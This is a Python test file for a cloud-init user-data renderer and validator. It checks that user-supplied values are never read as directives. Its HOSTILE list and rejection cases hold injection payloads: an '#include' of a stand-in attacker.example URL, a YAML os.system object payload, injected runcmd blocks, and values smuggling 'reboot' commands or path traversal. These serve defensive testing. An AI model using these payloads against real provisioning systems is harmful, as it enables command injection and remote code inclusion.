"""User data from a typed model: whatever a request says in it stays a value."""

from __future__ import annotations

from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError
from stacks_kit import PUBLIC_KEY, USER_DATA

from stacks.cloud_init import FIRST_LINE, MOST_BYTES, UserData, document_of, parse, problems_of, render

HOSTILE = (
    "\n#cloud-config\nruncmd: [reboot]",
    "#!/bin/sh\nreboot",
    "## template: jinja\n{{ ds.meta_data }}",
    "#include http://attacker.example/x",
    "Content-Type: multipart/mixed; boundary=x\n\n--x\n",
    '"\nruncmd: [reboot]\nx: "',
    "'}\n- !!python/object/apply:os.system ['reboot']",
    "&a *a <<: !binary |",
    "---\n...\n",
    "\u0085\u2028\u2029\ufeff\x00\x1b",
    "yes", "0644", "1e3", "null", "~", "",
)  # fmt: skip

values = st.recursive(
    st.one_of(st.booleans(), st.integers(), st.text(st.characters(codec="utf-8")), st.sampled_from(HOSTILE)),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=5), inner, max_size=3)),
    max_leaves=8,
)
documents = st.dictionaries(st.text(max_size=8), values, max_size=4)


@given(documents)
def test_what_is_read_back_is_what_was_written(document: dict[str, Any]) -> None:
    assert parse(render(document)) == document


@given(documents)
def test_no_line_but_the_first_begins_as_cloud_init_would_look_for(document: dict[str, Any]) -> None:
    first, *rest = render(document).splitlines()
    assert first == FIRST_LINE
    assert not [line for line in rest if line.startswith(("#", "Content-Type", "---", "..."))]


@pytest.mark.parametrize("content", HOSTILE)
def test_a_files_content_can_be_anything_and_adds_no_key(content: str) -> None:
    harmless, hostile = (
        UserData.model_validate({"files": [{"path": "/etc/motd", "content": text}]}) for text in ("hello", content)
    )
    read = parse(render(document_of(hostile, None)))
    assert read.keys() == parse(render(document_of(harmless, None))).keys() == {"write_files"}
    assert read["write_files"][0]["content"] == content


def test_the_model_becomes_the_document_that_cloud_init_knows() -> None:
    assert document_of(UserData.model_validate(USER_DATA), "portal-0") == {
        "hostname": "portal-0",
        "timezone": "Asia/Shanghai",
        "ntp": {"enabled": True, "servers": ["ntp.example.gov.cn"]},
        "package_update": True,
        "packages": ["nginx"],
        "users": [
            "default",
            {
                "name": "keeper",
                "ssh_authorized_keys": [PUBLIC_KEY],
                "lock_passwd": True,
                "shell": "/bin/bash",
                "sudo": "ALL=(ALL) NOPASSWD:ALL",
            },
        ],
        "write_files": [
            {"path": "/etc/motd", "content": "九江市政务云\n", "owner": "root:root", "permissions": "0644"}
        ],
    }


def test_what_is_not_asked_for_is_not_in_the_document() -> None:
    assert document_of(UserData(), None) == {}


@pytest.mark.parametrize(
    "wrong",
    [
        {"hostname": "web_1"},
        {"hostname": "-web"},
        {"timezone": "Mars/Olympus"},
        {"ntpServers": ["ntp.example; reboot"]},
        {"packages": ["--force-yes"]},
        {"packages": ["nginx && reboot"]},
        {"users": [{"name": "a:b", "sshPublicKeys": [PUBLIC_KEY]}]},
        {"users": [{"name": "keeper", "sshPublicKeys": []}]},
        {"users": [{"name": "keeper", "sshPublicKeys": [f'command="reboot" {PUBLIC_KEY}']}]},
        {"users": [{"name": "keeper", "sshPublicKeys": [f"{PUBLIC_KEY}\n{PUBLIC_KEY}"]}]},
        {"files": [{"path": "etc/motd", "content": ""}]},
        {"files": [{"path": "/etc/../root/x", "content": ""}]},
        {"files": [{"path": "/etc/motd", "content": "", "mode": "4755"}]},
        {"runcmd": ["reboot"]},
    ],
)
def test_the_model_refuses_what_it_does_not_know(wrong: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        UserData.model_validate(wrong)


def test_more_than_fits_is_refused_with_both_sizes() -> None:
    files = [{"path": f"/srv/{number}", "content": "x" * 8192} for number in range(2)]
    (problem,) = problems_of("userData", UserData.model_validate({"files": files}))
    assert problem.field == "userData"
    assert str(MOST_BYTES) in problem.en


def test_what_is_there_twice_is_named() -> None:
    user = {"name": "keeper", "sshPublicKeys": [PUBLIC_KEY]}
    file = {"path": "/etc/motd", "content": ""}
    found = problems_of("userData", UserData.model_validate({"users": [user, user], "files": [file, file]}))
    assert [problem.field for problem in found] == ["userData.users", "userData.files"]


def test_a_text_that_is_not_ours_is_not_read() -> None:
    with pytest.raises(ValueError, match="first line"):
        parse(yaml.safe_dump({"hostname": "web"}))
